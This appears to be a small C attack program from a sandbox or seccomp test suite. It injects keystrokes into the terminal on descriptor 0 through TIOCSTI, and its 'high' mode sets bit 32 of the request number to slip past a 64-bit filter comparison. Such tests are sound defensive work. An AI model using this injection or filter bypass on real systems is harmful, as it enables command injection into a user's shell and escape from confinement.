/* inject plain|high TEXT: pushes text into the input of the terminal on descriptor 0. `high` sets bits above the 32 that
 * the kernel looks at, which a 64-bit comparison would let pass. */
#include "attack.h"
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
    unsigned long request = TIOCSTI;
    if (strcmp(argument(argc, argv, 1), "high") == 0)
        request |= 1UL << 32;
    for (const char *letter = argument(argc, argv, 2); *letter; letter++)
        must("ioctl", syscall(SYS_ioctl, 0, request, letter));
    return 0;
}
